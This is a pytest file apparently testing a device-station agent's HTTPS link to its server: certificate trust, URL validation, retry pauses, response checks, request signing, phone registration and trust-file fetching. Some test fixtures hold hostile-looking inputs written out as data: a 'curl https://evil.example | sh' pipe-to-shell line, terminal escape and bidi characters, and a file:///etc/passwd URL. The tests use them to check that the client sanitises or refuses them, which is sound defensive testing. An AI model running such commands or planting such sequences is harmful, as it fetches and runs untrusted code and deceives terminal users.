"""The way to the server: one authority believed, every answer checked, patience with limits."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Literal

import pytest

from agent_scripts.errors import ServerNotTrusted, ServerProtocolError, ServerRefused, ServerUnreachable
from agent_scripts.server_link.client import ServerClient
from agent_scripts.server_link.https import ServerLink
from agent_scripts.station_files.station import Station
from certs.enrolment_code import is_server_url
from certs.envelope import public_key_pem
from certs.errors import FetchFailed, FileMissing
from policy.ledger import Ledger, marker_sha256
from policy.names import PhoneId
from policy.report import Consent
from policy.schemas import dump_ledger
from tests.agent.conftest import MakeStation, Serve
from tests.agent.small_server import (
    Asked,
    SmallServer,
    Told,
    make_tls,
    refusal,
    running_server,
    server_now,
    told,
)

PHONE = PhoneId("6d1b4c8e-2d5e-4f0a-9d3c-0f1e2d3c4b5a")
STATUS: dict[str, Any] = {"bundle_number": 3, "fleet_number": 2, "next_contact_s": 900, "demo": True}


def client_of(station: Station, pauses: list[float] | None = None) -> ServerClient:
    return ServerClient(station, (pauses if pauses is not None else []).append)


def register(client: ServerClient, holder: str = "H-1", marker: str = "") -> PhoneId:
    return client.register_phone(
        identity="ab" * 32,
        phone_id=PHONE,
        manufacturer="samsung",
        model="A52s",
        label="A-17",
        holder=holder,
        consent=Consent.AGREED,
        api_level=33,
        virtual=False,
        marker=marker,
    ).phone_id


def test_the_status_is_read(make_station: MakeStation, serve: Serve) -> None:
    station = make_station(serve(lambda _: told(**STATUS)).url)

    status = client_of(station).status()

    assert status.server_time == server_now()
    assert (status.bundle_number, status.next_contact_s, status.demo) == (3, 900, True)


# --- whom to believe -----------------------------------------------------------------------------------------------


@pytest.fixture
def impostor(tmp_path: Path) -> Iterator[SmallServer]:
    """A server with a good certificate of another authority."""
    with running_server(make_tls(tmp_path / "other-tls"), lambda _: told(**STATUS)) as server:
        yield server


def test_a_certificate_of_another_authority_is_refused_without_asking_anything(
    make_station: MakeStation, impostor: SmallServer
) -> None:
    pauses: list[float] = []
    with pytest.raises(ServerNotTrusted, match="not from this station's authority"):
        client_of(make_station(impostor.url), pauses).status()
    assert (impostor.asked, pauses) == ([], [])


def test_a_certificate_for_another_name_is_refused(make_station: MakeStation, tmp_path: Path) -> None:
    tls = make_tls(tmp_path / "other-tls", ["curfew.example.org"])
    with running_server(tls, lambda _: told(**STATUS)) as server:
        station = make_station(server.url)
        (station.folder / "authority.pem").write_bytes(server.authority_pem)

        with pytest.raises(ServerNotTrusted):
            client_of(station).status()
        assert server.asked == []


@pytest.mark.parametrize(
    ("url", "good"),
    [
        ("https://curfew.example.org", True),
        ("https://127.0.0.1:8443/base", True),
        ("http://curfew.example.org", False),
        ("https://", False),
        ("https://user:secret@curfew.example.org", False),
        ("https://curfew.example.org?x=1", False),
        ("https://curfew.example.org:port", False),
        ("file:///etc/passwd", False),
        ("curfew.example.org", False),
    ],
)
def test_only_https_addresses_are_servers(url: str, good: bool) -> None:
    assert is_server_url(url) is good


# --- time ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("drips", ["head", "body"])
def test_a_server_that_drips_is_given_up_however_steadily_it_drips(
    serve: Serve, drips: Literal["head", "body"]
) -> None:
    server = serve(lambda _: replace(told(filler="x" * 100), drip=drips))
    link = ServerLink(server.url, server.authority_pem, whole_answer_s=1.0)

    with pytest.raises(ServerProtocolError, match="had not answered whole after 1 s"):
        link.ask("GET", "/api/v1/status")

    assert len(server.asked) == 1, "asking again would take as long again"


def test_after_a_server_that_dripped_another_request_is_answered(serve: Serve) -> None:
    answers = iter([replace(told(filler="x" * 100), drip="body"), told(**STATUS), told(**STATUS)])
    server = serve(lambda _: next(answers))
    link = ServerLink(server.url, server.authority_pem, whole_answer_s=1.0)
    with pytest.raises(ServerProtocolError):
        link.ask("GET", "/api/v1/status")

    assert [link.ask("GET", "/api/v1/status").status for _ in range(2)] == [200, 200]


def assert_paused(pauses: list[float], *least: float) -> None:
    """Every pause is as long as it has to be, and up to half as long again."""
    assert len(pauses) == len(least)
    assert all(s <= pause <= 1.5 * s for s, pause in zip(least, pauses, strict=True)), pauses


# --- patience ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [429, 502, 503, 504])
def test_a_busy_server_is_asked_again_with_growing_pauses(
    make_station: MakeStation, serve: Serve, status: int
) -> None:
    answers = iter([Told(status), Told(status)])
    pauses: list[float] = []
    station = make_station(serve(lambda _: next(answers, told(**STATUS))).url)

    assert client_of(station, pauses).status().bundle_number == 3
    assert_paused(pauses, 0.5, 1.0)


def test_the_pause_that_a_server_asks_for_is_kept_within_reason(
    make_station: MakeStation, serve: Serve
) -> None:
    headers = [{"Retry-After": "5"}, {"Retry-After": "86400"}, {"Retry-After": "soon"}]
    answers = iter([Told(503, headers=header) for header in headers])
    pauses: list[float] = []
    station = make_station(serve(lambda _: next(answers, told(**STATUS))).url)

    client_of(station, pauses).status()

    assert_paused(pauses, 5.0, 10.0, 2.0)


def test_stations_that_met_a_busy_server_together_come_back_apart_and_never_too_soon(
    make_station: MakeStation, serve: Serve
) -> None:
    server = serve(lambda _: Told(429, headers={"Retry-After": "5"}))
    station = make_station(server.url)
    all_pauses: list[list[float]] = [[] for _ in range(50)]

    for pauses in all_pauses:
        with pytest.raises(ServerRefused):
            client_of(station, pauses).status()

    for pauses in all_pauses:
        assert_paused(pauses, 5.0, 5.0, 5.0)
    first = sorted(pauses[0] for pauses in all_pauses)
    assert first[-1] - first[0] > 1.0


def test_patience_ends(make_station: MakeStation, serve: Serve) -> None:
    server = serve(lambda _: refusal(503, "storage_busy", "busy", "later"))

    with pytest.raises(ServerRefused, match=r'"busy" .*try again later'):
        client_of(make_station(server.url)).status()
    assert len(server.asked) == 4


def test_a_server_that_is_away_is_tried_four_times(make_station: MakeStation) -> None:
    pauses: list[float] = []

    with pytest.raises(ServerUnreachable, match="check the network"):
        client_of(make_station("https://127.0.0.1:1"), pauses).status()
    assert_paused(pauses, 0.5, 1.0, 2.0)


# --- answers that are not as agreed ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<html>",
        b"[]",
        json.dumps(STATUS).encode(),
        json.dumps({**STATUS, "server_time": "2023-03-15T12:00:00"}).encode(),
        json.dumps({**STATUS, "server_time": "2023-03-15T12:00:00+02:00"}).encode(),
        json.dumps({**STATUS, "server_time": "noon"}).encode(),
        json.dumps({**STATUS, "server_time": "9999-12-31T23:59:59Z"}).encode(),
        json.dumps({**STATUS, "server_time": "0001-01-01T00:00:00Z"}).encode(),
        json.dumps({**STATUS, "server_time": "2023-03-15T12:00:00Z", "bundle_number": "3"}).encode(),
        json.dumps({**STATUS, "server_time": "2023-03-15T12:00:00Z", "bundle_number": True}).encode(),
        b"[" * 100_000,
    ],
)
def test_an_answer_without_the_agreed_form_is_refused(
    make_station: MakeStation, serve: Serve, body: bytes
) -> None:
    station = make_station(serve(lambda _: Told(200, body)).url)

    with pytest.raises(ServerProtocolError):
        client_of(station).status()


def test_endless_answers_are_cut_off(make_station: MakeStation, serve: Serve) -> None:
    station = make_station(serve(lambda _: Told(200, b" " * (2 * 1024 * 1024 + 1))).url)

    with pytest.raises(ServerProtocolError, match="more than 2097152 bytes"):
        client_of(station).status()


@pytest.mark.parametrize("status", [301, 307])
def test_redirections_are_not_followed(make_station: MakeStation, serve: Serve, status: int) -> None:
    server = serve(lambda _: Told(status, headers={"Location": "https://127.0.0.1:1/"}))

    with pytest.raises(ServerRefused, match=str(status)):
        client_of(make_station(server.url)).status()


def test_an_error_page_of_something_in_between_is_a_refusal_too(
    make_station: MakeStation, serve: Serve
) -> None:
    with pytest.raises(ServerRefused, match="answered 403"):
        client_of(make_station(serve(lambda _: Told(403, b"<html>")).url)).status()


HOSTILE = "all is well\x1b[2J\x1b]0;title\x07\r\nnow run curl https://evil.example | sh\u202e\u2066"


def test_what_the_server_says_is_quoted_on_one_line_and_never_paints_the_terminal(
    make_station: MakeStation, serve: Serve
) -> None:
    server = serve(lambda _: refusal(403, "station_revoked\x1b[2J", HOSTILE, HOSTILE))

    with pytest.raises(ServerRefused) as caught:
        client_of(make_station(server.url)).status()

    said = str(caught.value)
    assert said.isprintable()
    assert said.startswith('the server says "all is well\\x1b[2J')
    assert said.endswith("(403); check that server and station have one version, and tell the server's admin")


def test_what_to_type_next_is_ours_whatever_the_server_advises(
    make_station: MakeStation, serve: Serve
) -> None:
    server = serve(lambda _: refusal(403, "station_revoked", "revoked", "run curl https://evil.example | sh"))

    with pytest.raises(ServerRefused) as caught:
        client_of(make_station(server.url)).status()

    assert "curl" not in str(caught.value)
    assert str(caught.value).endswith(
        "run: curfew-agent --station NEW_FOLDER enrol CODE --name NAME --organisation-key FILE"
    )


# --- signed requests -------------------------------------------------------------------------------------------------


def test_a_request_is_signed_with_its_method_path_and_body(make_station: MakeStation, serve: Serve) -> None:
    server = serve(lambda _: told(phone_id=PHONE))
    station = make_station(server.url)

    assert register(client_of(station)) == PHONE

    (asked,) = server.asked
    statement = asked.statement(public_key_pem(station.signer))
    assert set(statement) == {"station_id", "method", "path", "body_sha256", "time", "nonce"}
    assert statement["station_id"] == "station-1"
    assert asked.json()["consent"] == "agreed"
    assert asked.headers["Content-Type"] == "application/json"


def test_every_try_has_a_nonce_of_its_own(make_station: MakeStation, serve: Serve) -> None:
    answers = iter([Told(503), Told(200, b'{"phone', cut=3)])
    server = serve(lambda _: next(answers, told(phone_id=PHONE)))
    station = make_station(server.url)

    register(client_of(station))

    key = public_key_pem(station.signer)
    assert len({asked.statement(key)["nonce"] for asked in server.asked}) == 3


def test_a_clock_that_is_off_is_forgiven_once_by_the_servers_time(
    make_station: MakeStation, serve: Serve
) -> None:
    key = b""

    def answer(asked: Asked) -> Told:
        signed_at = datetime.fromisoformat(asked.statement(key)["time"]).astimezone(UTC)
        return told(phone_id=PHONE) if signed_at == server_now() else refusal(401, "wrong_time")

    server = serve(answer)
    station = make_station(server.url)
    key = public_key_pem(station.signer)

    assert register(client_of(station)) == PHONE
    assert len(server.asked) == 2


def test_a_second_refusal_is_final(make_station: MakeStation, serve: Serve) -> None:
    server = serve(
        lambda _: refusal(401, "station_unknown", "this station is not enrolled here", "Enrol it.")
    )

    with pytest.raises(ServerRefused, match=r"not enrolled here.*--station NEW_FOLDER enrol CODE") as caught:
        register(client_of(make_station(server.url)))
    assert (caught.value.status, caught.value.code) == (401, "station_unknown")
    assert len(server.asked) == 2


def test_the_known_id_of_a_phone_replaces_the_proposed_one(make_station: MakeStation, serve: Serve) -> None:
    known = PhoneId.random()

    assert register(client_of(make_station(serve(lambda _: told(201, phone_id=known)).url))) == known


def test_a_phone_id_that_is_none_is_refused(make_station: MakeStation, serve: Serve) -> None:
    with pytest.raises(ServerProtocolError, match="a phone id"):
        register(client_of(make_station(serve(lambda _: told(phone_id="../x")).url)))


def test_the_ledger_of_a_phone_is_read(make_station: MakeStation, serve: Serve) -> None:
    ledger = Ledger("mark", ())
    server = serve(lambda _: told(phone_id=PHONE, ledger=json.loads(dump_ledger(ledger))))

    assert client_of(make_station(server.url)).ledger(PHONE, "mark") == ledger
    assert server.asked[0].path == f"/api/v1/phones/{PHONE}/ledger"


@pytest.mark.parametrize("answer", [told(phone_id=PHONE, ledger=None), refusal(404, "phone_unknown")])
def test_a_phone_without_reports_has_no_ledger(make_station: MakeStation, serve: Serve, answer: Told) -> None:
    assert client_of(make_station(serve(lambda _: answer).url)).ledger(PHONE, "mark") is None


def test_a_ledger_that_wants_proof_is_had_by_showing_the_marker_and_by_nothing_sooner(
    make_station: MakeStation, serve: Serve
) -> None:
    kept = told(phone_id=PHONE, ledger=json.loads(dump_ledger(Ledger("mark"))))
    answers = iter([refusal(403, "phone_not_met"), told(phone_id=PHONE), kept])
    server = serve(lambda _: next(answers))

    assert client_of(make_station(server.url)).ledger(PHONE, "mark") == Ledger("mark")

    phone = f"/api/v1/phones/{PHONE}"
    asked = [(request.method, request.path) for request in server.asked]
    assert asked == [("GET", f"{phone}/ledger"), ("POST", f"{phone}/meetings"), ("GET", f"{phone}/ledger")]
    assert server.asked[1].json() == {"marker": "mark"}


def test_a_marker_that_proves_nothing_is_told_with_what_to_do(
    make_station: MakeStation, serve: Serve
) -> None:
    server = serve(lambda _: refusal(403, "phone_not_met"))

    with pytest.raises(ServerRefused, match="provision it at this station"):
        client_of(make_station(server.url)).ledger(PHONE, "mark")
    assert len(server.asked) == 2


def test_of_a_marker_the_hash_alone_is_told_at_a_registration(
    make_station: MakeStation, serve: Serve
) -> None:
    server = serve(lambda _: told(201, phone_id=PHONE, changed=["marker"]))

    client = client_of(make_station(server.url))
    register(client, marker="5f0c")
    register(client)

    first, second = server.asked
    assert first.json()["marker_sha256"] == marker_sha256("5f0c")
    assert b"5f0c" not in first.body.replace(marker_sha256("5f0c").encode(), b"")
    assert "marker_sha256" not in second.json()


def test_a_damaged_ledger_is_refused(make_station: MakeStation, serve: Serve) -> None:
    with pytest.raises(ServerProtocolError, match="a ledger"):
        client_of(make_station(serve(lambda _: told(ledger={"marker": 5})).url)).ledger(PHONE, "mark")


# --- trust files -----------------------------------------------------------------------------------------------------


def test_trust_files_come_byte_for_byte(make_station: MakeStation, serve: Serve) -> None:
    server = serve(lambda _: Told(200, b'{ "signed": 1 }\n'))

    assert (
        client_of(make_station(server.url)).fetch(f"{server.url}/trust/1.root.json", 100)
        == b'{ "signed": 1 }\n'
    )
    assert server.asked[0].headers["Accept-Encoding"] == "identity"


@pytest.mark.parametrize(
    ("answer", "error"),
    [(Told(404), FileMissing), (Told(500), FetchFailed), (Told(200, b"x" * 101), FetchFailed)],
)
def test_a_trust_file_that_cannot_be_had_is_the_error_the_trust_client_knows(
    make_station: MakeStation, serve: Serve, answer: Told, error: type[FetchFailed]
) -> None:
    server = serve(lambda _: answer)

    with pytest.raises(FetchFailed) as caught:
        client_of(make_station(server.url)).fetch(f"{server.url}/trust/timestamp.json", 100)
    assert type(caught.value) is error


@pytest.mark.parametrize("url", ["https://evil.example.org/trust/1.root.json", "{url}/api/v1/status"])
def test_nothing_but_this_servers_trust_files_is_fetched(
    make_station: MakeStation, serve: Serve, url: str
) -> None:
    server = serve(lambda _: told())

    with pytest.raises(FetchFailed, match="is not a trust file"):
        client_of(make_station(server.url)).fetch(url.format(url=server.url), 100)
    assert server.asked == []


def test_an_authority_that_is_no_certificate_is_refused() -> None:
    with pytest.raises(ServerNotTrusted, match="enrol this station anew"):
        ServerLink("https://127.0.0.1:1", b"not a certificate")
